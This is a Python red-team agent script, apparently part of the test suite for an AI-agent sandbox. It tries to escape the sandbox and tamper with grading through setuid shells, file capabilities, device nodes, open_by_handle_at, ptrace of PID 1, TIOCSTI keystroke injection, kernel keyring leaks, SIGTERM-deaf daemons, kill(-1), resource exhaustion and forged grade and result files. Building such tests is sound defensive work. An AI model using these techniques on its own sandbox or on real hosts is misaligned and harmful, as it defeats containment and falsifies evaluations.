#!/usr/bin/env python3
"""Red-team agent: each ``--attack NAME[:ARG]`` is one attempt on the framework or the host.

Every attack records what it achieved in ``$SPU_OUTPUT_DIR/redteam.json`` (name -> a
small JSON object); the test that ran it decides whether the attack held. Attacks:

- ``keyring-write:TOKEN`` / ``keyring-read:TOKEN``: pass a value to another run through
  the kernel's user and session keyrings (not namespaced by pid, ipc or mount).
- ``userns``: create a user namespace (full capabilities inside it: kernel surface).
- ``proc``: the sandbox's PID 1, host sysctls, sysrq, ``/sys`` and cgroup files.
- ``handle``: ``open_by_handle_at`` to a file outside the mounts (CAP_DAC_READ_SEARCH).
- ``reach:LABEL=KIND:ADDRESS`` (KIND tcp, udp, unix, abstract): a host service.
- ``mknod``: a raw-disk and a ``/dev/mem`` device node in the workspace and output.
- ``suid``: a setuid and setgid shell and a binary with file capabilities.
- ``specials``: links, a FIFO, a socket, a hard link and non-UTF-8 names in the output.
- ``sparse:GIB``: a sparse file of GIB in the output (a few blocks on disk);
  ``sparse-files:COUNT,MIB``: COUNT sparse files of MIB each.
- ``deep:DEPTH``, ``many:COUNT``: a deep folder tree, many small files, in the output.
- ``fill-outside:MIB``: write up to MIB into every writable place but the layout.
- ``daemon``: a SIGTERM-deaf, session-leading daemon that keeps writing to the output.
- ``deep-json``: a ``rankings.json`` nested a million levels deep.
- ``link-submission:PATH``: ``rankings.json`` as a link to PATH.
- ``read:PATH``: read a file or list a folder (a host path it should not see).
- ``forge``: forged ``run.json``, ``grade.json`` and ``result.json`` in its folders.
- ``inotify-hog:SECONDS``: hold every inotify instance its user may have (a per-user
  kernel count) while another run starts; ``inotify-probe``: get one.
- ``inherited``: the file descriptors and environment it was handed.
- ``kill-all``: ``kill(-1, SIGKILL)``: every process it may signal.
- ``escape-layout``: move or remove ``/output``, ``/workspace``, ``/task``; ptrace its
  PID 1; push a key into the terminal (TIOCSTI).

It never writes a valid submission unless asked (``--submit``) and targets only the
addresses it is given (this machine's).
"""

import argparse
import ctypes
import ctypes.util
import errno
import json
import os
import shutil
import signal
import socket
import stat
import struct
import sys
import time

OUT = os.environ.get("SPU_OUTPUT_DIR", "/output")
WORK = os.environ.get("SPU_WORKSPACE", os.getcwd())
libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)

KEY_SPEC_SESSION_KEYRING = -3
KEY_SPEC_USER_KEYRING = -4
KEYCTL_GET_PERSISTENT = 22
KEYCTL_SEARCH = 10
KEYCTL_READ = 11
NR = {  # x86_64 and aarch64 syscall numbers
    "x86_64": {"add_key": 248, "keyctl": 250, "open_by_handle_at": 304,
               "name_to_handle_at": 303},
    "aarch64": {"add_key": 217, "keyctl": 219, "open_by_handle_at": 265,
                "name_to_handle_at": 264},
}[os.uname().machine]


def _err():
    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))


def syscall(name, *args):
    ctypes.set_errno(0)
    return libc.syscall(NR[name], *args)


def attempt(fn, *args):
    """``(True, result)`` or ``(False, 'ERRNO')``."""
    try:
        return [True, fn(*args)]
    except OSError as exc:
        return [False, errno.errorcode.get(exc.errno, str(exc))]
    except Exception as exc:  # noqa: BLE001 - the report says what happened
        return [False, f"{type(exc).__name__}: {exc}"]


# --------------------------------------------------------------------------- kernel


def keyring_write(token):
    out = {}
    for label, ring in (("user", KEY_SPEC_USER_KEYRING), ("session", KEY_SPEC_SESSION_KEYRING)):
        data = f"{token}-{label}".encode()
        serial = syscall("add_key", b"user", f"spu-rt-{token}".encode(), data,
                         ctypes.c_size_t(len(data)), ctypes.c_int(ring))
        out[label] = serial if serial > 0 else _err()
    persistent = syscall("keyctl", KEYCTL_GET_PERSISTENT, ctypes.c_int(-1),
                         ctypes.c_int(KEY_SPEC_USER_KEYRING))
    out["persistent"] = persistent if persistent > 0 else _err()
    if persistent > 0:
        data = f"{token}-persistent".encode()
        serial = syscall("add_key", b"user", f"spu-rt-p-{token}".encode(), data,
                         ctypes.c_size_t(len(data)), ctypes.c_int(persistent))
        out["persistent_key"] = serial if serial > 0 else _err()
    return out


def keyring_read(token):
    found = {}
    persistent = syscall("keyctl", KEYCTL_GET_PERSISTENT, ctypes.c_int(-1),
                         ctypes.c_int(KEY_SPEC_USER_KEYRING))
    rings = {"user": KEY_SPEC_USER_KEYRING, "session": KEY_SPEC_SESSION_KEYRING}
    if persistent > 0:
        rings["persistent"] = persistent
    for label, ring in rings.items():
        for name in (f"spu-rt-{token}", f"spu-rt-p-{token}"):
            serial = syscall("keyctl", KEYCTL_SEARCH, ctypes.c_int(ring), b"user",
                             name.encode(), ctypes.c_int(0))
            if serial <= 0:
                found[f"{label}/{name}"] = _err()
                continue
            buf = ctypes.create_string_buffer(256)
            n = syscall("keyctl", KEYCTL_READ, ctypes.c_int(serial), buf, ctypes.c_size_t(256))
            found[f"{label}/{name}"] = {"read": buf.raw[:max(n, 0)].decode(errors="replace")}
    return found


def userns():
    clone_newuser, clone_newnet = 0x10000000, 0x40000000
    pid = os.fork()
    if pid == 0:
        ok = libc.unshare(clone_newuser | clone_newnet) == 0
        os._exit(0 if ok else 1)
    _, status = os.waitpid(pid, 0)
    return {"created": os.waitstatus_to_exitcode(status) == 0}


def proc_and_sys():
    out = {}
    try:
        out["pid1_cmdline"] = open("/proc/1/cmdline", "rb").read().replace(b"\0", b" ").decode(
            errors="replace")[:4000]
    except OSError as exc:
        out["pid1_cmdline"] = errno.errorcode.get(exc.errno)
    out["pid1_root"] = attempt(lambda: sorted(os.listdir("/proc/1/root"))[:20])
    out["pid1_environ"] = attempt(lambda: open("/proc/1/environ", "rb").read(200).decode(
        errors="replace"))
    writable = {}
    for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern",
                 "/proc/sys/vm/drop_caches", "/proc/sys/kernel/hostname",
                 "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/release_agent",
                 "/sys/kernel/uevent_helper", "/proc/self/oom_score_adj"):
        # Opened for writing and closed at once: nothing is ever written.
        def _open(p=path):
            os.close(os.open(p, os.O_WRONLY))
            return True
        writable[path] = attempt(_open)
    out["open_for_write"] = writable
    out["sys_listing"] = attempt(lambda: sorted(os.listdir("/sys"))[:30])
    out["uid"] = os.getuid()
    out["caps"] = [line for line in open("/proc/self/status").read().splitlines()
                   if line.startswith(("CapEff", "CapBnd", "NoNewPrivs", "Seccomp"))]
    return out


def open_by_handle():
    """Open inode 2 (the root folder) of the file system behind /task by handle."""
    out = {}
    # struct file_handle { u32 handle_bytes; int handle_type; u8 f_handle[...] }
    buf = ctypes.create_string_buffer(8 + 128)
    struct.pack_into("I", buf, 0, 128)
    mount_id = ctypes.c_int(0)
    at_fdcwd = -100
    r = syscall("name_to_handle_at", ctypes.c_int(at_fdcwd), b"/task", buf,
                ctypes.byref(mount_id), ctypes.c_int(0))
    out["name_to_handle_at"] = r if r < 0 and _err() else "ok"
    handle_bytes, handle_type = struct.unpack_from("Ii", buf, 0)
    if r == 0 and handle_bytes >= 8:
        struct.pack_into("II", buf, 8, 2, 0)  # ext4: inode 2, generation 0
        fd = os.open("/task", os.O_RDONLY)
        try:
            r = syscall("open_by_handle_at", ctypes.c_int(fd), buf, ctypes.c_int(os.O_RDONLY))
            out["open_by_handle_at"] = "opened" if r >= 0 else _err()
            if r >= 0:
                out["listing"] = os.listdir(f"/proc/self/fd/{r}")[:20]
        finally:
            os.close(fd)
    return out


# --------------------------------------------------------------------------- the network


def reach(spec):
    label, _, target = spec.partition("=")
    kind, _, address = target.partition(":")
    token = None
    try:
        if kind in ("tcp", "udp"):
            host, _, port = address.rpartition(":")
            host = host.strip("[]")
            family = socket.AF_INET6 if ":" in host else socket.AF_INET
            info = socket.getaddrinfo(host, int(port), family,
                                      socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
            sockaddr = info[0][4]
            if kind == "tcp":
                with socket.socket(family, socket.SOCK_STREAM) as s:
                    s.settimeout(2)
                    s.connect(sockaddr)
                    s.sendall(b"hello\n")
                    token = s.recv(200).decode(errors="replace")
            else:
                with socket.socket(family, socket.SOCK_DGRAM) as s:
                    s.settimeout(2)
                    for _ in range(3):
                        s.sendto(b"hello\n", sockaddr)
                        try:
                            token = s.recv(200).decode(errors="replace")
                            break
                        except TimeoutError:
                            continue
        else:
            name = ("\0" + address) if kind == "abstract" else address
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(2)
                s.connect(name)
                s.sendall(b"hello\n")
                token = s.recv(200).decode(errors="replace")
        return {"label": label, "answer": token or None}
    except OSError as exc:
        return {"label": label, "answer": None, "error": str(exc)}


# --------------------------------------------------------------------------- files


def host_disk_devices():
    """(major, minor) of every block device behind a mount the sandbox sees."""
    devices = set()
    for line in open("/proc/self/mountinfo"):
        major, minor = line.split()[2].split(":")
        if major != "0":
            devices.add((int(major), int(minor)))
    return sorted(devices)


def mknod_attack():
    out = {}
    for folder in (WORK, OUT):
        for (major, minor) in host_disk_devices()[:1] or [(8, 0)]:
            path = os.path.join(folder, "disk-node")
            device = os.makedev(major, minor)
            out[f"{folder}/disk-node"] = attempt(
                lambda p=path, d=device: os.mknod(p, 0o666 | stat.S_IFBLK, d))
            if os.path.exists(path):
                attempt(os.chmod, path, 0o666)
                out[f"{folder}/disk-node-open"] = attempt(
                    lambda p=path: os.close(os.open(p, os.O_RDONLY)) or True)
        path = os.path.join(folder, "mem-node")
        out[f"{folder}/mem-node"] = attempt(
            lambda p=path: os.mknod(p, 0o666 | stat.S_IFCHR, os.makedev(1, 1)))
    return out


def suid_attack():
    out = {}
    shell = shutil.which("sh") or "/bin/sh"
    for folder in (WORK, OUT):
        target = os.path.join(folder, "suid-sh")
        out[f"{folder}/suid-sh"] = attempt(lambda t=target: shutil.copy(shell, t) and None)
        out[f"{folder}/suid-chmod"] = attempt(os.chmod, target, 0o6755)
        out[f"{folder}/suid-mode"] = oct(os.stat(target).st_mode) if os.path.exists(
            target) else None
        capped = os.path.join(folder, "capped-sh")
        attempt(lambda t=capped: shutil.copy(shell, t) and None)
        # VFS_CAP_REVISION_2, effective, CAP_SYS_ADMIN (21) and CAP_DAC_OVERRIDE (1).
        value = struct.pack("<IIIII", 0x02000001, (1 << 21) | (1 << 1), 0, 0, 0)
        out[f"{folder}/filecap"] = attempt(os.setxattr, capped, "security.capability", value)
    return out


def specials():
    out = {}
    out["link_out"] = attempt(os.symlink, "/etc", os.path.join(OUT, "etc-link"))
    out["link_up"] = attempt(os.symlink, "../../../../../../", os.path.join(OUT, "up-link"))
    out["fifo"] = attempt(os.mkfifo, os.path.join(OUT, "report.md"))
    sock = socket.socket(socket.AF_UNIX)
    out["socket"] = attempt(sock.bind, os.path.join(OUT, "sources.json"))
    with open(os.path.join(OUT, "plain.txt"), "w") as f:
        f.write("plain\n")
    out["hardlink"] = attempt(os.link, os.path.join(OUT, "plain.txt"), os.path.join(OUT, "hard"))
    out["cross_mount_hardlink"] = attempt(os.link, "/task/task.yaml", os.path.join(OUT, "t.yaml"))
    for name in (b"bad-\xff\xfe.txt", b"\x1b[31mansi\x1b[0m.txt", b"new\nline.txt"):
        out[repr(name)] = attempt(lambda n=name: open(os.path.join(OUT.encode(), n), "wb")
                                  .write(b"x\n"))
    os.makedirs(os.path.join(OUT, "scripts"), exist_ok=True)
    out["scripts_link"] = attempt(os.symlink, "/", os.path.join(OUT, "scripts", "root"))
    return out


def sparse(gib):
    path = os.path.join(OUT, "sparse.bin")
    with open(path, "wb") as f:
        f.truncate(int(float(gib) * 2**30))
        f.seek(0)
        f.write(b"head")
    st = os.stat(path)
    return {"size": st.st_size, "blocks": st.st_blocks}


def sparse_files(spec):
    count, mib = (int(x) for x in spec.split(","))
    folder = os.path.join(OUT, "sparse")
    os.mkdir(folder)
    for i in range(count):
        with open(os.path.join(folder, f"s{i}.bin"), "wb") as f:
            f.truncate(mib * 2**20)
    return {"files": count, "mib": mib}


def deep(depth):
    path = os.path.join(OUT, "deep")
    os.mkdir(path)
    fd = os.open(path, os.O_RDONLY)
    made = 0
    try:
        for _ in range(int(depth)):
            os.mkdir("d", dir_fd=fd)
            new = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = new
            made += 1
        with open(os.open("leaf.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd), "w") as f:
            f.write("leaf\n")
    except OSError as exc:
        return {"depth": made, "error": str(exc)}
    finally:
        os.close(fd)
    return {"depth": made}


def many(count):
    folder = os.path.join(OUT, "many")
    os.mkdir(folder)
    made = 0
    try:
        for i in range(int(count)):
            os.close(os.open(os.path.join(folder, f"f{i}"), os.O_WRONLY | os.O_CREAT, 0o644))
            made += 1
    except OSError as exc:
        return {"made": made, "error": str(exc)}
    return {"made": made}


def fill_outside(mib):
    """Write into every writable folder outside the layout, up to ``mib`` each."""
    out = {}
    chunk = b"\0" * (1 << 20)
    for folder in ("/tmp", "/var/tmp", "/root", "/run", "/dev/shm", "/", "/usr/local",
                   "/opt", "/etc", "/home"):
        path = os.path.join(folder, f"spu-fill-{os.getpid()}")
        written = 0
        try:
            with open(path, "wb") as f:
                for _ in range(int(mib)):
                    f.write(chunk)
                    written += 1
                f.flush()
                os.fsync(f.fileno())
        except OSError as exc:
            out[folder] = {"mib": written, "error": errno.errorcode.get(exc.errno, str(exc))}
            continue
        out[folder] = {"mib": written}
    return out


def daemon():
    """A daemon deaf to SIGTERM and SIGHUP that keeps appending to the output."""
    late = os.path.join(OUT, "late.txt")
    pid_file = os.path.join(OUT, "daemon.pid")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(sig, signal.SIG_IGN)
            with open(pid_file, "w") as f:
                f.write(str(os.getpid()))
            os.closerange(0, 3)
            while True:
                try:
                    with open(late, "a") as f:
                        f.write(f"{time.time()}\n")
                except OSError:
                    pass
                time.sleep(0.2)
        os._exit(0)
    os.wait()
    while not os.path.exists(pid_file):
        time.sleep(0.01)
    time.sleep(0.5)
    return {"started": True}


def deep_json():
    with open(os.path.join(OUT, "rankings.json"), "w") as f:
        f.write("[" * 1_000_000)
    return {"written": True}


def read(path):
    """Read a file (a host path the agent should not see) or list a folder."""
    try:
        if os.path.isdir(path):
            return {"content": sorted(os.listdir(path))}
        with open(path, "rb") as f:
            return {"content": f.read(4096).decode(errors="replace")}
    except OSError as exc:
        return {"content": None, "error": errno.errorcode.get(exc.errno, str(exc))}


def inherited():
    """Open file descriptors (a host folder among them would be a way out) and the
    environment, its own and its PID 1's."""
    fds = {}
    for fd in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            fds[fd] = os.readlink(f"/proc/self/fd/{fd}")
        except OSError as exc:
            fds[fd] = errno.errorcode.get(exc.errno, str(exc))
    try:
        pid1 = open("/proc/1/environ", "rb").read().decode(errors="replace")
    except OSError:
        pid1 = None
    return {"fds": fds, "environ": dict(os.environ), "pid1_environ": pid1}


def kill_all():
    """SIGKILL every process it may signal (``kill(-1)``), from a child it forks first."""
    pid = os.fork()
    if pid == 0:
        os.setsid()
        try:
            os.kill(-1, signal.SIGKILL)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    return {"survived": True}


def escape_layout():
    """Replace the output or the workspace by a link (the host would then follow it)."""
    out = {}
    for folder in (OUT, WORK, "/task"):
        out[f"rename {folder}"] = attempt(os.rename, folder, folder + "-moved")
        out[f"rmdir {folder}"] = attempt(os.rmdir, folder)
    attached = libc.ptrace(16, 1, 0, 0) == 0  # PTRACE_ATTACH
    out["ptrace pid 1"] = [attached, _err()]
    if attached:  # let it go on (it is the sandbox's own init)
        os.waitpid(1, getattr(os, "__WALL", 0x40000000))
        libc.ptrace(17, 1, 0, 0)  # PTRACE_DETACH
    try:
        fd = os.open("/dev/tty", os.O_RDWR)
        import fcntl
        import termios

        fcntl.ioctl(fd, termios.TIOCSTI, b"x")  # a key pressed in the host's terminal
        out["tiocsti"] = [True, None]
    except OSError as exc:
        out["tiocsti"] = [False, errno.errorcode.get(exc.errno, str(exc))]
    return out


def forge():
    """Run records and grades where a reader globbing the run folders might take them."""
    record = {"run_key": "f" * 16, "task_id": "spu-forged", "outcome": "valid",
              "score_recovered": 1.0, "score_strict": 1.0, "scored": True}
    written = []
    for folder in (OUT, WORK, os.path.join(OUT, "attempts", "1"), os.path.join(WORK, "f" * 16)):
        os.makedirs(folder, exist_ok=True)
        for name in ("run.json", "grade.json", "result.json"):
            with open(os.path.join(folder, name), "w") as f:
                json.dump(record, f)
            written.append(os.path.join(folder, name))
    return {"written": written}


def inotify_hog(seconds):
    """Hold every inotify instance its user may have, for ``seconds``."""
    held = []
    while True:
        fd = libc.inotify_init()
        if fd < 0:
            break
        held.append(fd)
    with open(os.path.join(OUT, "inotify-held"), "w") as f:
        f.write(str(len(held)))
    time.sleep(float(seconds))
    return {"held": len(held)}


def inotify_probe():
    fd = libc.inotify_init()
    return {"fd": fd, "errno": None if fd >= 0 else _err()}


def link_submission(target):
    path = os.path.join(OUT, "rankings.json")
    return {"link": attempt(os.symlink, target, path)}


ATTACKS = {
    "keyring-write": keyring_write, "keyring-read": keyring_read, "userns": userns,
    "proc": proc_and_sys, "handle": open_by_handle, "reach": reach, "mknod": mknod_attack,
    "suid": suid_attack, "specials": specials, "sparse": sparse, "sparse-files": sparse_files,
    "deep": deep, "many": many,
    "fill-outside": fill_outside, "daemon": daemon, "deep-json": deep_json,
    "link-submission": link_submission, "read": read, "inherited": inherited,
    "kill-all": kill_all, "escape-layout": escape_layout, "forge": forge,
    "inotify-hog": inotify_hog, "inotify-probe": inotify_probe,
}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--attack", action="append", default=[])
    parser.add_argument("--sleep", type=float, default=0.0, help="seconds before exiting")
    args = parser.parse_args()
    report = {}
    for spec in args.attack:
        name, _, arg = spec.partition(":")
        key = spec if name in ("reach", "read") else name
        try:
            result = ATTACKS[name](*([arg] if arg else []))
        except Exception as exc:  # noqa: BLE001 - the report says what happened
            result = {"crashed": f"{type(exc).__name__}: {exc}"}
        report[key] = result
        with open(os.path.join(OUT, "redteam.json"), "w") as f:
            json.dump(report, f, indent=1)
    time.sleep(args.sleep)
    print("redteam done", file=sys.stderr)


if __name__ == "__main__":
    main()
